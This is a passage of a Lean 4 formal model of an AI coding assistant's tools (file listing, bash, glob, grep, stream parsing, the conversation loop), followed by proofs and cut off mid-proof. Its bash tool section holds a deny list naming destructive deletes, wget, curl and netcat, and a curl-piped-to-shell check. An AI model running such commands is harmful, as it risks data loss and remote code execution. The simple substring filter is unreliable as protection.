          (.thrown (.error (if e.code = u16 "ENOENT" then u16 "Directory not found: " ++ shown
            else u16 "Failed to list directory: " ++ e.message)), d1)
        | .ok false =>
          (.thrown (.error (u16 "Failed to list directory: Not a directory: " ++ shown)), d1)
        | .ok true =>
          match (if truthyOpt (args.get (u16 "recursive")) then
              listRecursive fs env d.state (truthyOpt (args.get (u16 "showHidden"))) depth dirPath
            else listDirectory fs env d.state dirPath (truthyOpt (args.get (u16 "showHidden")))) with
          | (.entries result, calls) =>
            (.returned (.arr (result.map DirEntry.toJson)), { d1 with calls := d1.calls ++ calls })
          | (.fsError e, calls) =>
            (.thrown (.error (if e.code = u16 "ENOENT" then u16 "Directory not found: " ++ shown
              else u16 "Failed to list directory: " ++ e.message)),
              { d1 with calls := d1.calls ++ calls })
          | (.thrown t, calls) =>
            (.thrown (wrapError (u16 "Failed to list directory: ") t),
              { d1 with calls := d1.calls ++ calls })
          | (.unmodelled, calls) => (.unmodelled, { d1 with calls := d1.calls ++ calls })
    | _, _ => (.thrown .typeError, d)

/-! ## `src/tools/bashTool.js` -/

/-- The constant `BLOCKED_COMMANDS`. -/
def BLOCKED_COMMANDS : List JsString :=
  [u16 "rm -rf /", u16 "rm -rf *", u16 "rm -rf ~",
   u16 "wget", u16 "curl", u16 "nc", u16 "ncat", u16 "netcat",
   u16 ">>", u16 ">", u16 "|", u16 ";", u16 "&&", u16 "||", u16 "&"]

/-- The test `command.match(/source/)` as a condition, for a regular-expression literal
without flags: is there a match? -/
def matchesLiteral (source command : JsString) : Bool :=
  match RegExp.compile source with
  | .ok r => r.test command
  | _ => false

/-- Embedding of `isCommandDangerous(command)`. -/
def isCommandDangerous (command : JsString) : Bool :=
  if BLOCKED_COMMANDS.any (fun blocked => includes command blocked) then true
  else if matchesLiteral (u16 "^rm\\s+(-r|-rf|--recursive|--force|-f)") command &&
      matchesLiteral (u16 "^rm\\s+(-r|-rf|--recursive|--force|-f).*\\/") command then true
  else if ((stripPrefix (u16 "curl") command).isSome || (stripPrefix (u16 "wget") command).isSome) &&
      (includes command (u16 "| bash") || includes command (u16 "| sh")) then true
  else false

/-- The call `execAsync(command, { cwd, timeout, shell: true })`. -/
structure ShellCall where
  command : JsString
  cwd : Json
  timeout : Json

/-- Embedding of `bashTool(args)`. The shell is a parameter: `shell call` is the pair
`(stdout, stderr)` the call resolves to, or the message of the error it is rejected
with. The second component is the list of the calls made. -/
def bashTool (shell : ShellCall → Except JsString (JsString × JsString)) (env : ToolEnv)
    (args : Json) : Outcome Json × List ShellCall :=
  if args.isNull then (.thrown .typeError, [])
  else if !truthyOpt (args.get (u16 "command")) then
    (.thrown (.error (u16 "Command is required")), [])
  else
    match args.get (u16 "command") with
    | some (.str text) =>
      let command := trim text
      let cwd := if truthyOpt (args.get (u16 "cwd")) then (args.get (u16 "cwd")).getD .null
        else .str env.cwd
      let timeout := if truthyOpt (args.get (u16 "timeout")) then
        (args.get (u16 "timeout")).getD .null else .num (Num.ofDecimal false 30000 0)
      if isCommandDangerous command then
        (.thrown (.error (u16 ("Command contains potentially dangerous operations and is " ++
          "blocked for security reasons"))), [])
      else
        match shell ⟨command, cwd, timeout⟩ with
        | .error message =>
          (.thrown (.error (u16 "Command execution failed: " ++ message)),
            [⟨command, cwd, timeout⟩])
        | .ok (stdout, stderr) =>
          if stderr != [] then
            (.returned (.str (u16 "Command executed with warnings:\n" ++ stderr ++
              u16 "\nOutput:\n" ++ stdout)), [⟨command, cwd, timeout⟩])
          else (.returned (.str stdout), [⟨command, cwd, timeout⟩])
    | _ => (.thrown .typeError, [])

/-! ## A file system in memory

A small instance of `NodeFs`, on which the tools are evaluated: the state lists the
files with their content, and a directory exists when a file lies below it. -/

/-- The error of a path that does not exist. -/
def noEntry (syscall file : JsString) : FsError :=
  ⟨u16 "ENOENT",
    u16 "ENOENT: no such file or directory, " ++ syscall ++ u16 " \x27" ++ file ++ u16 "\x27"⟩

/-- The path of `file` below the directory `dir`, if it lies below it. -/
def below (dir file : JsString) : Option JsString :=
  stripPrefix (if dir = [47] then dir else dir ++ [47]) file

/-- The entries of `dir`: the first segment of every file path below it, once; an entry
with further segments is a directory. -/
def memEntries (dir : JsString) : List (JsString × JsString) → List (JsString × Bool)
  | [] => []
  | (file, _) :: rest =>
    match below dir file with
    | none => memEntries dir rest
    | some sub =>
      match splitOn 47 sub with
      | [] => memEntries dir rest
      | name :: deeper =>
        if (memEntries dir rest).any (fun entry => entry.1 = name) then memEntries dir rest
        else (name, deeper ≠ []) :: memEntries dir rest

/-- The file system in memory. -/
def memFs : NodeFs (List (JsString × JsString)) where
  access st file :=
    if (st.lookup file).isSome ∨ st.any (fun f => (below file f.1).isSome) then .ok ()
    else .error (noEntry (u16 "access") file)
  readFile st file :=
    match st.lookup file with
    | some content => .ok content
    | none =>
      if st.any (fun f => (below file f.1).isSome) then
        .error ⟨u16 "EISDIR", u16 "EISDIR: illegal operation on a directory, read"⟩
      else .error (noEntry (u16 "open") file)
  writeFile st file content := .ok ((file, content) :: st.filter (fun f => f.1 ≠ file))
  appendFile st file content :=
    .ok ((file, (st.lookup file).getD [] ++ content) :: st.filter (fun f => f.1 ≠ file))
  mkdir st _ := .ok st
  stat st file :=
    if (st.lookup file).isSome then .ok false
    else if st.any (fun f => (below file f.1).isSome) then .ok true
    else .error (noEntry (u16 "stat") file)
  readdir st dir :=
    if st.any (fun f => (below dir f.1).isSome) then .ok (memEntries dir st)
    else .error (noEntry (u16 "scandir") dir)

/-! ## `src/tools/globTool.js` and `src/tools/grepTool.js` -/

/-- The options `globTool` passes to `globby` (`absolute` is `false`). -/
structure GlobOptions where
  cwd : JsString
  onlyDirectories : Bool
  ignore : List JsString
  dot : Bool

/-- Embedding of `globTool(args)`. The library is a parameter: `globby pattern options` is
the list of paths the call resolves to, or the message of the error it is rejected
with. -/
def globTool (globby : Json → GlobOptions → Except JsString (List JsString)) (env : ToolEnv)
    (args : Json) : Outcome (List JsString) :=
  if args.isNull then .thrown .typeError
  else
    match args.get (u16 "pattern") with
    | none => .thrown (.error (u16 "Pattern is required"))
    | some pattern =>
      if !pattern.truthy then .thrown (.error (u16 "Pattern is required"))
      else
        match globby pattern ⟨env.cwd, truthyOpt (args.get (u16 "onlyDirectories")),
            env.ignorePatterns, truthyOpt (args.get (u16 "includeHidden"))⟩ with
        | .error message => .thrown (.error (u16 "Failed to find files: " ++ message))
        | .ok files => .returned (files.map path.normalize)

/-- The element `grepTool` pushes for line `i` (counted from 0) of `file`. -/
def grepRecord (file : JsString) (i : Nat) (line : JsString) : Json :=
  .obj [(u16 "file", .str file), (u16 "line", .num (Num.ofDecimal false (i + 1) 0)),
    (u16 "content", .str (trim line))]

/-- The test of one line in `grepTool`, as prepared before the loop over the files;
`none` stands for a test that throws. The regular-expression mode is modelled for a
case-sensitive search with a string pattern; `toLowerCase` is the method
`String.prototype.toLowerCase`. -/
def grepMatcher (toLowerCase : JsString → JsString) (args : Json) :
    Outcome (JsString → Option Bool) :=
  if truthyOpt (args.get (u16 "regex")) then
    match truthyOpt (args.get (u16 "caseSensitive")), args.get (u16 "pattern") with
    | true, some (.str source) =>
      match RegExp.compile source with
      | .ok r => .returned fun line => some (r.test line)
      | .syntaxError => .thrown (.regexSyntaxError source)
      | .unsupported => .unmodelled
    | _, _ => .unmodelled
  else if truthyOpt (args.get (u16 "caseSensitive")) then
    .returned fun line => (displayOpt (args.get (u16 "pattern"))).map fun pattern =>
      includes line pattern
  else
    match args.get (u16 "pattern") with
    | some (.str pattern) =>
      .returned fun line => some (includes (toLowerCase line) (toLowerCase pattern))
    | _ => .thrown .typeError

/-- The loop of `grepTool` over the lines of one file, from line `i` on: the elements
pushed until the end of the file or until a test throws. -/
def grepLines (test : JsString → Option Bool) (file : JsString) :
    Nat → List JsString → List Json
  | _, [] => []
  | i, line :: rest =>
    match test line with
    | none => []
    | some true => grepRecord file i line :: grepLines test file (i + 1) rest
    | some false => grepLines test file (i + 1) rest

/-- The loop of `grepTool` over the files: a file that `fileReadTool` does not return is
skipped. -/
def grepFiles {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (test : JsString → Option Bool) :
    Disk σ → List JsString → Outcome (List Json) × Disk σ
  | d, [] => (.returned [], d)
  | d, file :: rest =>
    match fileReadTool fs env d (.obj [(u16 "path", .str file)]) with
    | (.returned (.str content), d1) =>
      (match grepFiles fs env test d1 rest with
      | (.returned results, d2) =>
        (.returned (grepLines test file 0 (splitOn 10 content) ++ results), d2)
      | other => other)
    | (.unmodelled, d1) => (.unmodelled, d1)
    | (_, d1) => grepFiles fs env test d1 rest

/-- Embedding of `grepTool(args)`. -/
def grepTool {σ : Type} (toLowerCase : JsString → JsString)
    (globby : Json → GlobOptions → Except JsString (List JsString)) (fs : NodeFs σ)
    (env : ToolEnv) (d : Disk σ) (args : Json) : Outcome Json × Disk σ :=
  if args.isNull then (.thrown .typeError, d)
  else if !truthyOpt (args.get (u16 "pattern")) then
    (.thrown (.error (u16 "Pattern is required")), d)
  else
    match globTool globby env (.obj [(u16 "pattern",
        if truthyOpt (args.get (u16 "glob")) then (args.get (u16 "glob")).getD .null
        else .str (u16 "**/*.\x7bjs,jsx,ts,tsx,md,txt,json\x7d"))]) with
    | .thrown t => (.thrown (wrapError (u16 "Search failed: ") t), d)
    | .unmodelled => (.unmodelled, d)
    | .returned files =>
      if files = [] then (.returned (.arr []), d)
      else
        match grepMatcher toLowerCase args with
        | .thrown t => (.thrown (wrapError (u16 "Search failed: ") t), d)
        | .unmodelled => (.unmodelled, d)
        | .returned test =>
          match grepFiles fs env test d files with
          | (.returned results, d1) => (.returned (.arr results), d1)
          | (.thrown t, d1) => (.thrown (wrapError (u16 "Search failed: ") t), d1)
          | (.unmodelled, d1) => (.unmodelled, d1)

/-! ## `src/ollama.js`: the scanner of the streamed response -/

/-- The variables of the scan of `partialChunk` in `processStream`: `pending` is the text
from `lastJsonEnd` to the position of the scan, `objects` the texts cut out so far
(`jsonStr`), first one first. -/
structure StreamScan where
  braceCount : Int
  inString : Bool
  escapeNext : Bool
  pending : JsString
  objects : List JsString

/-- The variables at the start of a scan. -/
def StreamScan.start : StreamScan := ⟨0, false, false, [], []⟩

/-- One pass of the loop over `partialChunk`, for the code unit `char`. -/
def scanStep (st : StreamScan) (char : Nat) : StreamScan :=
  if st.escapeNext then { st with escapeNext := false, pending := st.pending ++ [char] }
  else if char = 92 ∧ st.inString = true then
    { st with escapeNext := true, pending := st.pending ++ [char] }
  else if char = 34 then { st with inString := !st.inString, pending := st.pending ++ [char] }
  else if st.inString = false then
    if char = 123 then { st with braceCount := st.braceCount + 1, pending := st.pending ++ [char] }
    else if char = 125 then
      if st.braceCount - 1 = 0 then
        { st with braceCount := st.braceCount - 1, pending := [],
                  objects := st.objects ++ [st.pending ++ [char]] }
      else { st with braceCount := st.braceCount - 1, pending := st.pending ++ [char] }
    else { st with pending := st.pending ++ [char] }
  else { st with pending := st.pending ++ [char] }

/-- The value given to `onProgress` for a text `jsonStr`: `json.message.content` when
`JSON.parse` succeeds and `json.message && json.message.content` is truthy. -/
def progressOf (jsonStr : JsString) : Option Json :=
  match JSON.parse jsonStr with
  | none => none
  | some json =>
    if truthyOpt (json.get (u16 "message")) then
      match (json.get (u16 "message")).bind fun message => message.get (u16 "content") with
      | some content => if content.truthy then some content else none
      | none => none
    else none

/-- The variables of `processStream` that live across reads, with the values `onProgress`
was called with. -/
structure StreamState where
  partialChunk : JsString
  fullResponse : Json
  progress : List Json

/-- One call of `processStream` that reads the text `chunk`. -/
def processChunk (st : StreamState) (chunk : JsString) : StreamState :=
  let scan := (st.partialChunk ++ chunk).foldl scanStep StreamScan.start
  let values := scan.objects.filterMap progressOf
  ⟨scan.pending, values.getLast?.getD st.fullResponse, st.progress ++ values⟩

/-- Embedding of `processStream()` for a stream that delivers `chunks` and ends: the value
`chatCompletion` resolves to (`fullResponse`) and the values `onProgress` was called
with, in order. -/
def processStream (chunks : List JsString) : Json × List Json :=
  let st := chunks.foldl processChunk ⟨[], .str [], []⟩
  (st.fullResponse, st.progress)

/-! ## `src/utils/parsing.js`: `parseCommand` -/

/-- The variables of the loop of `parseCommand`. -/
structure CommandScan where
  parts : List JsString
  current : JsString
  inQuotes : Bool
  escapeNext : Bool

/-- One pass of the loop of `parseCommand`, for the code unit `char`. -/
def parseCommandStep (st : CommandScan) (char : Nat) : CommandScan :=
  if st.escapeNext then { st with current := st.current ++ [char], escapeNext := false }
  else if char = 92 then { st with escapeNext := true }
  else if char = 34 ∧ st.inQuotes = false then { st with inQuotes := true }
  else if char = 34 ∧ st.inQuotes = true then { st with inQuotes := false }
  else if char = 32 ∧ st.inQuotes = false then
    if st.current ≠ [] then { st with parts := st.parts ++ [st.current], current := [] } else st
  else { st with current := st.current ++ [char] }

/-- Embedding of `parseCommand(input)`: the pair of `command` and `args`. -/
def parseCommand (input : JsString) : JsString × List JsString :=
  let st := input.foldl parseCommandStep ⟨[], [], false, false⟩
  let parts := if st.current ≠ [] then st.parts ++ [st.current] else st.parts
  (parts.headD [], parts.drop 1)

/-! ## `src/repl.js`: slash commands

The embedding follows the statements of the functions of `src/repl.js` as they are
written. (The `switch` of `handleSlashCommand` declares `const spinner` in two of its
cases, which share one block.) -/

/-- An element of `conversation`. -/
structure Message where
  role : JsString
  content : JsString
  deriving DecidableEq

/-- Embedding of `handleSlashCommand(command, { rl, conversation, ollama })`, as far as
`conversation` goes: `clear` empties it, `compact` removes all but the last ten messages
when there are more than ten, and no other command changes it. -/
def handleSlashCommand (command : JsString) (conversation : List Message) : List Message :=
  match splitOn 32 (command.drop 1) with
  | cmd :: _ =>
    if cmd = u16 "clear" then []
    else if cmd = u16 "compact" then
      if conversation.length > 10 then conversation.drop (conversation.length - 10)
      else conversation
    else conversation
  | [] => conversation

/-! ## `src/repl.js`: the conversation loop -/

mutual
/-- Model of `JSON.stringify(v, null, 2)` for a value inside a line indented by
`indent`. -/
def JSON.stringifyIndented (indent : JsString) : Json → JsString
  | .arr xs =>
    if xs.isEmpty then [91, 93]
    else 91 :: 10 :: (indent ++ 32 :: 32 :: (indentedElements (indent ++ [32, 32]) xs ++
      10 :: (indent ++ [93])))
  | .obj kvs =>
    if kvs.isEmpty then [123, 125]
    else 123 :: 10 :: (indent ++ 32 :: 32 :: (indentedMembers (indent ++ [32, 32]) kvs ++
      10 :: (indent ++ [125])))
  | v => JSON.stringify v
/-- Array elements, each on a line of its own. -/
def indentedElements (indent : JsString) : List Json → JsString
  | [] => []
  | [x] => JSON.stringifyIndented indent x
  | x :: y :: rest =>
    JSON.stringifyIndented indent x ++ 44 :: 10 :: (indent ++ indentedElements indent (y :: rest))
/-- Object members `"key": value`, each on a line of its own. -/
def indentedMembers (indent : JsString) : List (JsString × Json) → JsString
  | [] => []
  | [(k, v)] => quoteJson k ++ 58 :: 32 :: JSON.stringifyIndented indent v
  | (k, v) :: m :: rest =>
    quoteJson k ++ 58 :: 32 :: JSON.stringifyIndented indent v ++
      44 :: 10 :: (indent ++ indentedMembers indent (m :: rest))
end

/-- The constant `systemMessage`, for the working directory `cwd`. -/
def systemMessage (cwd : JsString) : Message :=
  ⟨u16 "system",
    u16 ("You are Ollama Code, a helpful AI coding assistant.\n" ++
      "You have access to the following tools:\n" ++
      "- FileReadTool: Reads file contents\n" ++
      "- FileEditTool: Edits files\n" ++
      "- FileWriteTool: Creates or overwrites files\n" ++
      "- LSTool: Lists directory contents\n" ++
      "- GrepTool: Searches for patterns in files\n" ++
      "- GlobTool: Finds files matching patterns\n" ++
      "- BashTool: Executes shell commands\n" ++
      "- GitTool: Performs git operations\n\n" ++
      "When you need to perform actions, use JSON function calling with this format:\n" ++
      "```json\n" ++
      "\x7b\"name\": \"toolName\", \"arguments\": " ++
      "\x7b\"arg1\": \"value1\", \"arg2\": \"value2\"\x7d\x7d\n" ++
      "```\n\n" ++
      "The user is currently in the directory: ") ++ cwd ++
    u16 "\n\nRespond in markdown format. Be concise and helpful."⟩

/-- What the conversation loop does, in order. -/
inductive LoopEvent where
  /-- The call `ollama.chatCompletion({ messages, onProgress })`. -/
  | chat (messages : List Message)
  /-- The call `executeToolCommand(toolCall)`. -/
  | execute (toolCall : ToolCall)

/-- The state of the loop: the array `conversation`, the state of the permissions and the
tools, and the calls made so far. -/
structure Session where
  conversation : List Message
  world : World
  events : List LoopEvent

/-- The surroundings of the loop. `model n messages` is what the `n`-th call of
`chatCompletion` (counted from 0) receives for `messages`: the chunks of the stream, or
the message of the error it throws. `answer` is what the user answers to a prompt, and
`handlers` what the registered handlers do, both in the state of the call.
`engineMessage` is the message text of an error of the engine. -/
structure Surroundings where
  cwd : JsString
  model : Nat → List Message → Except JsString (List JsString)
  answer : World → ToolCall → Answer
  handlers : World → JsString → Json → Except JsString Json
  engineMessage : Thrown → JsString

/-- The property `error.message` of a thrown value. -/
def Thrown.message (engineMessage : Thrown → JsString) : Thrown → JsString
  | .error message => message
  | .wrapped pre cause => pre ++ cause.message engineMessage
  | t => engineMessage t

/-- How a part of the loop ends: it returns, or it leaves the model (a response that is
not a string, a call outside the model of `executeToolCommand`, or more follow-ups than
the bound given to the model). -/
inductive LoopEnd where
  | finished (s : Session)
  | unmodelled (s : Session)

/-- The state the loop is in at its end. -/
def LoopEnd.session : LoopEnd → Session
  | .finished s => s
  | .unmodelled s => s

/-- The message pushed after `executeToolCommand` returned `result`. -/
def toolResultMessage (name : JsString) (result : Json) : Message :=
  ⟨u16 "user", u16 "Tool result for " ++ name ++ u16 ":\n```\n" ++
    (match result with
      | .null => JSON.stringifyIndented [] result
      | .arr _ => JSON.stringifyIndented [] result
      | .obj _ => JSON.stringifyIndented [] result
      | v => (v.toDisplay).getD []) ++ u16 "\n```"⟩

/-- The message pushed after `executeToolCommand` threw an error with `message`. -/
def toolFailureMessage (name message : JsString) : Message :=
  ⟨u16 "user", u16 "Tool " ++ name ++ u16 " failed with error: " ++ message⟩

/-- The body of the loop `for (const toolCall of toolCalls)`, with `followup` for the call
`processFollowup()`; `none` stands for an exception that leaves the loop, to the `catch`
clause of the enclosing function. -/
def runToolCall (env : Surroundings) (followup : Session → LoopEnd) (s : Session)
    (toolCall : ToolCall) : Option LoopEnd :=
  match toolCall.name.toDisplay with
  | none => none
  | some name =>
    match executeToolCommand (env.handlers s.world) s.world toolCall
        (env.answer s.world toolCall) with
    | (.returned result, w) =>
      some (followup ⟨s.conversation ++ [toolResultMessage name result], w,
        s.events ++ [.execute toolCall]⟩)
    | (.thrown t, w) =>
      some (followup ⟨s.conversation ++ [toolFailureMessage name (t.message env.engineMessage)],
        w, s.events ++ [.execute toolCall]⟩)
    | (.unmodelled, w) =>
      some (.unmodelled ⟨s.conversation, w, s.events ++ [.execute toolCall]⟩)

/-- The loop `for (const toolCall of toolCalls)`. -/
def runToolCalls (env : Surroundings) (followup : Session → LoopEnd) :
    Session → List ToolCall → LoopEnd
  | s, [] => .finished s
  | s, toolCall :: rest =>
    match runToolCall env followup s toolCall with
    | none => .finished s
    | some (.finished s1) => runToolCalls env followup s1 rest
    | some (.unmodelled s1) => .unmodelled s1

/-- The number of calls of `chatCompletion` among the events. -/
def chatCount : List LoopEvent → Nat
  | [] => 0
  | .chat _ :: rest => chatCount rest + 1
  | .execute _ :: rest => chatCount rest

/-- The `try` block that `processQuery` and `processFollowup` share: the exchange with
the model, the assistant message, and the loop over the directives of the response. -/
def exchange (env : Surroundings) (followup : Session → LoopEnd) (s : Session) : LoopEnd :=
  match env.model (chatCount s.events) (systemMessage env.cwd :: s.conversation) with
  | .error _ =>
    .finished { s with events := s.events ++ [.chat (systemMessage env.cwd :: s.conversation)] }
  | .ok chunks =>
    match (processStream chunks).2.getLast?.getD (.str []) with
    | .str response =>
      runToolCalls env followup
        ⟨s.conversation ++ [⟨u16 "assistant", response⟩], s.world,
          s.events ++ [.chat (systemMessage env.cwd :: s.conversation)]⟩
        (parseToolCalls response)
    | _ =>
      .unmodelled
        { s with events := s.events ++ [.chat (systemMessage env.cwd :: s.conversation)] }

/-- Embedding of `processFollowup()`; `bound` limits the nesting of follow-ups. -/
def processFollowup (env : Surroundings) : Nat → Session → LoopEnd
  | 0, s => .unmodelled s
  | bound + 1, s => exchange env (processFollowup env bound) s

/-- Embedding of `processQuery(query)`, as far as the conversation, the permissions and
the tools go; `bound` limits the nesting of follow-ups. -/
def processQuery (env : Surroundings) (bound : Nat) (query : JsString) (s : Session) : LoopEnd :=
  if trim query = [] then .finished s
  else if query.head? = some 47 then
    .finished { s with conversation := handleSlashCommand query s.conversation }
  else exchange env (processFollowup env bound)
    { s with conversation := s.conversation ++ [⟨u16 "user", query⟩] }

/-! ## Vocabulary of the proofs -/

/-- Does the text hold a line feed directly followed by a backtick? -/
def hasNlTick : JsString → Bool
  | [] => false
  | c :: rest => (c == 10 && rest.head? == some 96) || hasNlTick rest

/-- The text neither starts with a backtick nor holds a line feed followed by one: put
after a line feed, it opens no fence. -/
def FenceSafe (s : JsString) : Prop := s.head? ≠ some 96 ∧ hasNlTick s = false

/-- A scanner that turns `s` into the rest `r` has consumed a prefix without line feed. -/
def Consumed (s r : JsString) : Prop := ∃ body : JsString, s = body ++ r ∧ 10 ∉ body

/-- The opening fence of a code block, with or without the language tag `json`. -/
def fenceOpen (json : Bool) : JsString :=
  if json then u16 "```json\n" else u16 "```\n"

/-- The closing fence with the line feed before it. -/
def fenceClose : JsString := u16 "\n```"

/-- The lines a line-range edit puts in place of the range, for a `newContent` that is
absent or a string: the lines of a non-empty `newContent`, none otherwise. -/
def insertedLines : Option JsString → List JsString
  | some (c :: cs) => splitOn 10 (c :: cs)
  | _ => []

/-- A token between double quotes. -/
def quoted (token : JsString) : JsString := 34 :: (token ++ [34])

/-- The records of the search in the words of the specification (not taken from the
source): for every candidate file that can be read, in the order of the candidates, one
record for every line, in ascending order, whose lower-case text contains the lower-case
pattern. `read file` is the content of a readable file. -/
def specGrepRecords (toLowerCase : JsString → JsString) (read : JsString → Option JsString)
    (pattern : JsString) (files : List JsString) : List Json :=
  files.flatMap fun file =>
    match read file with
    | none => []
    | some content =>
      (((splitOn 10 content).enumFrom 0).filter fun il =>
        includes (toLowerCase il.2) (toLowerCase pattern)).map fun il =>
          .obj [(u16 "file", .str file), (u16 "line", .num (Num.ofDecimal false (il.1 + 1) 0)),
            (u16 "content", .str (trim il.2))]

/-- The content `fileReadTool` returns for a candidate file, if it returns one. -/
def readCandidate {σ : Type} (fs : NodeFs σ) (env : ToolEnv) (st : σ) (file : JsString) :
    Option JsString :=
  match (fileReadTool fs env ⟨st, []⟩ (.obj [(u16 "path", .str file)])).1 with
  | .returned (.str content) => some content
  | _ => none

/-- The values of `braceCount`, `inString` and `escapeNext` after the scanner has read
the code unit `char`. -/
def scanControl (braceCount : Int) (inString escapeNext : Bool) (char : Nat) :
    Int × Bool × Bool :=
  if escapeNext then (braceCount, inString, false)
  else if char = 92 ∧ inString = true then (braceCount, inString, true)
  else if char = 34 then (braceCount, !inString, false)
  else if inString = false then
    if char = 123 then (braceCount + 1, inString, false)
    else if char = 125 then (braceCount - 1, inString, false)
    else (braceCount, inString, false)
  else (braceCount, inString, false)

/-- Does the code unit `char` end an object: a `}` outside a string that brings
`braceCount` to 0? -/
def scanCloses (braceCount : Int) (inString escapeNext : Bool) (char : Nat) : Bool :=
  !escapeNext && !inString && decide (char = 125) && decide (braceCount - 1 = 0)

/-- A text that the scanner reads outside a string, inside at least one brace, without
change of its variables: no object ends in it. -/
def Quiet (text : JsString) : Prop :=
  ∀ (b : Int) (p : JsString) (o : List JsString), 1 ≤ b →
    text.foldl scanStep ⟨b, false, false, p, o⟩ = ⟨b, false, false, p ++ text, o⟩

/-- A text that the scanner reads inside a string without leaving the string. -/
def InString (text : JsString) : Prop :=
  ∀ (b : Int) (p : JsString) (o : List JsString),
    text.foldl scanStep ⟨b, true, false, p, o⟩ = ⟨b, true, false, p ++ text, o⟩

/-- A code unit of the decimal form of a number: a digit, `+`, `-`, `.` or `e`. -/
def isNumberUnit (c : Nat) : Bool :=
  (48 ≤ c && c ≤ 57) || c == 43 || c == 45 || c == 46 || c == 101

/-- The array index that the key denotes, 0 when it denotes none. -/
def keyIndex (k : JsString) : Nat := (arrayIndex k).getD 0

/-- The keys of the members that are not array indices, in the order in which they are
first inserted (a key that comes again keeps its place). -/
def namedKeyOrder (members : List (JsString × Json)) : List JsString :=
  members.foldl
    (fun acc m => if (arrayIndex m.1).isSome = true ∨ m.1 ∈ acc then acc else acc ++ [m.1]) []

/-- The property list `kvs` enumerates array-index keys first, in ascending order of the
index, and then the keys `named`, none of which is an array index. -/
def EnumerationOrder (kvs : List (JsString × Json)) (named : List JsString) : Prop :=
  ∃ K : List JsString, kvs.map Prod.fst = K ++ named ∧
    (∀ p ∈ K, (arrayIndex p).isSome = true) ∧ (∀ q ∈ named, arrayIndex q = none) ∧
    K.Pairwise (fun a b => keyIndex a < keyIndex b) ∧ named.Nodup

/-! ## Theorems -/

set_option maxRecDepth 100000

/-! ### Text consumed by the JSON lexer -/

theorem stripPrefix_eq {p s r : JsString} (h : stripPrefix p s = some r) : s = p ++ r := by
  induction p generalizing s with
  | nil => simp [stripPrefix] at h; simp [h]
  | cons a p ih =>
    cases s with
    | nil => simp [stripPrefix] at h
    | cons c cs =>
      simp only [stripPrefix] at h
      split at h
      · rename_i hac
        rw [hac, ih h]
        rfl
      · exact absurd h (by simp)

theorem consumed_refl (s : JsString) : Consumed s s := ⟨[], rfl, by simp⟩

theorem consumed_cons {s r : JsString} (c : Nat) (hc : c ≠ 10) (h : Consumed s r) :
    Consumed (c :: s) r := by
  obtain ⟨body, rfl, hb⟩ := h
  exact ⟨c :: body, rfl, by simp [hb, Ne.symm hc]⟩

theorem consumed_trans {s t r : JsString} (h1 : Consumed s t) (h2 : Consumed t r) :
    Consumed s r := by
  obtain ⟨b1, rfl, hb1⟩ := h1
  obtain ⟨b2, rfl, hb2⟩ := h2
  exact ⟨b1 ++ b2, by simp, by simp [hb1, hb2]⟩

theorem consumed_dropWhile (p : Nat → Bool) (hp : p 10 = false) (s : JsString) :
    Consumed s (s.dropWhile p) := by
  refine ⟨s.takeWhile p, (List.takeWhile_append_dropWhile p s).symm, ?_⟩
  intro h
  have := List.mem_takeWhile_imp h
  simp [hp] at this

theorem consumed_of_stripPrefix {p s r : JsString} (hp : 10 ∉ p)
    (h : stripPrefix p s = some r) : Consumed s r :=
  ⟨p, stripPrefix_eq h, hp⟩

theorem hasNlTick_consumed {s r : JsString} (h : Consumed s r) :
    hasNlTick s = hasNlTick r := by
  obtain ⟨body, rfl, hb⟩ := h
  induction body with
  | nil => rfl
  | cons c body ih =>
    have hc : c ≠ 10 := fun h => hb (by simp [h])
    have hb' : 10 ∉ body := fun h => hb (List.mem_cons_of_mem _ h)
    have hstep : hasNlTick (c :: (body ++ r)) = hasNlTick (body ++ r) := by
      simp [hasNlTick, hc]
    rw [List.cons_append, hstep, ih hb']

theorem fenceSafe_of_consumed {s r : JsString} (h : Consumed s r) (hs : s.head? ≠ some 96)
    (hr : FenceSafe r) : FenceSafe s :=
  ⟨hs, by rw [hasNlTick_consumed h]; exact hr.2⟩

theorem fenceSafe_cons {c : Nat} {s : JsString} (hc : c ≠ 96) (hs : FenceSafe s) :
    FenceSafe (c :: s) := by
  refine ⟨by simp [hc], ?_⟩
  simp only [hasNlTick, hs.2, Bool.or_false, Bool.and_eq_false_imp]
  intro _
  simpa using hs.1

theorem lexString_consumed : ∀ (n : Nat) (s : JsString), s.length ≤ n →
    ∀ v r, lexString s = some (v, r) → Consumed s r := by
  intro n
  induction n with
  | zero =>
    intro s hs v r h
    cases s with
    | nil => simp [lexString] at h
    | cons c cs => simp at hs
  | succ n ih =>
    intro s hs v r h
    unfold lexString at h
    split at h
    · exact absurd h (by simp)
    · simp only [Option.some.injEq, Prod.mk.injEq] at h
      rw [← h.2]
      exact consumed_cons 34 (by decide) (consumed_refl _)
    · rename_i a b c d rest
      split at h
      · rename_i a' b' c' d' ha hb hc hd
        cases hrec : lexString rest with
        | none => simp [hrec] at h
        | some p =>
          simp only [hrec, Option.map_some', Option.some.injEq, Prod.mk.injEq] at h
          have hlen : rest.length ≤ n := by simp at hs; omega
          have hrest := ih rest hlen p.1 p.2 hrec
          rw [h.2] at hrest
          have ha10 : a ≠ 10 := by rintro rfl; simp [hexVal] at ha
          have hb10 : b ≠ 10 := by rintro rfl; simp [hexVal] at hb
          have hc10 : c ≠ 10 := by rintro rfl; simp [hexVal] at hc
          have hd10 : d ≠ 10 := by rintro rfl; simp [hexVal] at hd
          exact consumed_cons 92 (by decide) (consumed_cons 117 (by decide)
            (consumed_cons a ha10 (consumed_cons b hb10 (consumed_cons c hc10
              (consumed_cons d hd10 hrest)))))
      · exact absurd h (by simp)
    · rename_i e rest _
      simp only at h
      split at h
      · rename_i j hj
        cases hrec : lexString rest with
        | none => simp [hrec] at h
        | some p =>
          simp only [hrec, Option.map_some', Option.some.injEq, Prod.mk.injEq] at h
          have hlen : rest.length ≤ n := by simp at hs; omega
          have hrest := ih rest hlen p.1 p.2 hrec
          rw [h.2] at hrest
          have he10 : e ≠ 10 := by
            rintro rfl
            simp at hj
          exact consumed_cons 92 (by decide) (consumed_cons e he10 hrest)
      · exact absurd h (by simp)
    · rename_i c rest _ _ _
      split at h
      · exact absurd h (by simp)
      · rename_i hc
        cases hrec : lexString rest with
        | none => simp [hrec] at h
        | some p =>
          simp only [hrec, Option.map_some', Option.some.injEq, Prod.mk.injEq] at h
          have hlen : rest.length ≤ n := by simp at hs; omega
          have hrest := ih rest hlen p.1 p.2 hrec
          rw [h.2] at hrest
          have hc10 : c ≠ 10 := by
            rintro rfl
